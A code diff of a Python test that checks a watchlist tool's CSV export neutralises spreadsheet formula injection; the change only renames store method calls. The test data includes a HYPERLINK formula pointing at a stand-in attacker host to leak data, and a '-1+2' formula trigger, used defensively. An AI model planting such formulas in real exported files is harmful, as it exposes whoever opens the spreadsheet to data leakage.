@@ -124,9 +124,9 @@ def test_list_shows_every_subject_with_its_site_and_as_csv(run, store_url: str) 
 def test_list_as_csv_defuses_a_subject_a_spreadsheet_would_run(run, store_url: str) -> None:
     hostile = '=HYPERLINK("http://evil.example/?leak","click")'
     with HistoryStore.open(store_url) as store:
-        store.watch(ACCOUNT, "keyword", hostile, site="northwind-coffee.com")
-        store.watch(ACCOUNT, "keyword", "-1+2", site="northwind-coffee.com")
-        stored = sorted(item.subject for item in store.watchlist(ACCOUNT))
+        store.watchlist.watch(ACCOUNT, "keyword", hostile, site="northwind-coffee.com")
+        store.watchlist.watch(ACCOUNT, "keyword", "-1+2", site="northwind-coffee.com")
+        stored = sorted(item.subject for item in store.watchlist.entries(ACCOUNT))
     code, out, _err = run("list", "--csv")
     assert code == 0
     subjects = sorted(row["subject"] for row in csv.DictReader(io.StringIO(out)))
